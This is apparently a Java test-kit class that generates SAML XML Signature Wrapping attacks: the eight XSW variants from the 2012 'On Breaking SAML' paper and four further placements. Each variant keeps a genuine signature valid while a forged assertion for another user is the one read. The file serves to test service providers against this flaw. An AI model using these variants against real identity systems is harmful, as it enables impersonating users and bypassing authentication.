package org.keywell.testkit.saml;

import static org.keywell.testkit.saml.TestIdentityProvider.RSA;
import static org.keywell.testkit.saml.TestIdentityProvider.response;
import static org.keywell.testkit.saml.TestIdentityProvider.signed;

import java.util.List;
import java.util.function.Consumer;
import javax.xml.crypto.dsig.XMLSignature;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * A genuine signature is left valid, and somebody else's assertion is put where it will be read:
 * the eight variants of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX
 * Security 2012), as they are numbered by the SAML Raider, and some more of the kind.
 */
public record SignatureWrapping(String name, boolean ofResponse, Consumer<Document> wrap) {

  private static final String ASSERTIONS = "urn:oasis:names:tc:SAML:2.0:assertion";
  private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

  public static final List<SignatureWrapping> ALL =
      List.of(
          new SignatureWrapping("XSW1", true, SignatureWrapping::originalResponseIntoSignature),
          new SignatureWrapping("XSW2", true, SignatureWrapping::originalResponseBesideSignature),
          new SignatureWrapping("XSW3", false, SignatureWrapping::forgedBeforeOriginal),
          new SignatureWrapping("XSW4", false, SignatureWrapping::originalIntoForged),
          new SignatureWrapping("XSW5", false, SignatureWrapping::originalBehindForged),
          new SignatureWrapping("XSW6", false, response -> intoSignature(response, false)),
          new SignatureWrapping("XSW7", false, SignatureWrapping::forgedIntoExtensions),
          new SignatureWrapping("XSW8", false, response -> intoSignature(response, true)),
          new SignatureWrapping("in advice", false, SignatureWrapping::originalIntoAdvice),
          new SignatureWrapping("in key info", false, SignatureWrapping::originalIntoKeyInfo),
          new SignatureWrapping(
              "in confirmation", false, SignatureWrapping::originalIntoConfirmation),
          new SignatureWrapping("in a value", false, SignatureWrapping::originalIntoValue));

  /** Leaves the signed element somewhere, and a forged assertion for the reader. */
  public Document attack(String assertion) {
    Document response = response(signed(assertion));
    if (ofResponse) {
      Element within = original(response);
      within.removeChild(Xml.first(within, "Signature"));
      XmlSigning.by(RSA).sign(response.getDocumentElement());
    }
    wrap.accept(response);
    // As it travels: what was moved about in memory is parsed again.
    return Xml.parse(Xml.text(response));
  }

  private static Element original(Document response) {
    return Xml.first(response, "Assertion");
  }

  /** A copy that speaks of somebody else, without signature. */
  private static Element forged(Document response) {
    Element copy = (Element) original(response).cloneNode(true);
    if (copy.getElementsByTagNameNS(XMLSignature.XMLNS, "Signature").getLength() > 0) {
      copy.removeChild(Xml.first(copy, "Signature"));
    }
    return forge(copy);
  }

  private static Element forge(Element assertion) {
    assertion.setAttribute("ID", "_forged");
    Xml.all(assertion, "AttributeValue", 1).setTextContent("Mallory Exempel");
    return assertion;
  }

  private static void originalResponseIntoSignature(Document document) {
    Element root = document.getDocumentElement();
    Element original = (Element) root.cloneNode(true);
    Element signature = Xml.first(root, "Signature");
    original.removeChild(Xml.first(original, "Signature"));
    Element object = document.createElementNS(XMLSignature.XMLNS, "ds:Object");
    object.appendChild(original);
    signature.appendChild(object);
    root.setAttribute("ID", "_forged_response");
    forge(assertionOf(root));
  }

  private static void originalResponseBesideSignature(Document document) {
    Element root = document.getDocumentElement();
    Element original = (Element) root.cloneNode(true);
    original.removeChild(Xml.first(original, "Signature"));
    Element extensions = extensions(document);
    extensions.appendChild(original);
    root.insertBefore(extensions, Xml.first(root, "Status"));
    root.setAttribute("ID", "_forged_response");
    forge(assertionOf(root));
  }

  /** Of the response itself. */
  private static Element assertionOf(Element root) {
    return Xml.child(root, "Assertion");
  }

  private static void originalIntoForged(Document response) {
    Element original = original(response);
    Element forged = forged(response);
    original.getParentNode().replaceChild(forged, original);
    forged.appendChild(original);
  }

  /** The signature stays with the forged assertion; what it is of goes to the end. */
  private static void originalBehindForged(Document response) {
    Element forged = original(response);
    Element copy = (Element) forged.cloneNode(true);
    copy.removeChild(Xml.first(copy, "Signature"));
    forge(forged);
    forged.getParentNode().appendChild(copy);
  }

  private static void intoSignature(Document response, boolean object) {
    Element forged = original(response);
    Element copy = (Element) forged.cloneNode(true);
    copy.removeChild(Xml.first(copy, "Signature"));
    forge(forged);
    Element signature = Xml.first(forged, "Signature");
    if (object) {
      Element wrapper = response.createElementNS(XMLSignature.XMLNS, "ds:Object");
      wrapper.appendChild(copy);
      signature.appendChild(wrapper);
    } else {
      signature.appendChild(copy);
    }
  }

  private static void originalIntoAdvice(Document response) {
    Element original = original(response);
    Element forged = forged(response);
    original.getParentNode().replaceChild(forged, original);
    Element advice = response.createElementNS(ASSERTIONS, "saml2:Advice");
    advice.appendChild(original);
    forged.insertBefore(advice, Xml.first(forged, "AuthnStatement"));
  }

  private static void originalIntoKeyInfo(Document response) {
    Element forged = original(response);
    Element copy = (Element) forged.cloneNode(true);
    copy.removeChild(Xml.first(copy, "Signature"));
    forge(forged);
    Xml.first(forged, "KeyInfo").appendChild(copy);
  }

  private static void originalIntoConfirmation(Document response) {
    Element original = original(response);
    Element forged = forged(response);
    original.getParentNode().replaceChild(forged, original);
    Xml.first(forged, "SubjectConfirmationData").appendChild(original);
  }

  private static void originalIntoValue(Document response) {
    Element original = original(response);
    Element forged = forged(response);
    original.getParentNode().replaceChild(forged, original);
    Element value = Xml.first(forged, "AttributeValue");
    value.removeAttributeNS("http://www.w3.org/2001/XMLSchema-instance", "type");
    value.appendChild(original);
  }

  private static Element extensions(Document response) {
    return response.createElementNS(PROTOCOL, "saml2p:Extensions");
  }

  private static void forgedIntoExtensions(Document response) {
    Element extensions = extensions(response);
    extensions.appendChild(forged(response));
    response
        .getDocumentElement()
        .insertBefore(extensions, Xml.first(response.getDocumentElement(), "Status"));
  }

  private static void forgedBeforeOriginal(Document response) {
    Element original = original(response);
    original.getParentNode().insertBefore(forged(response), original);
  }
}
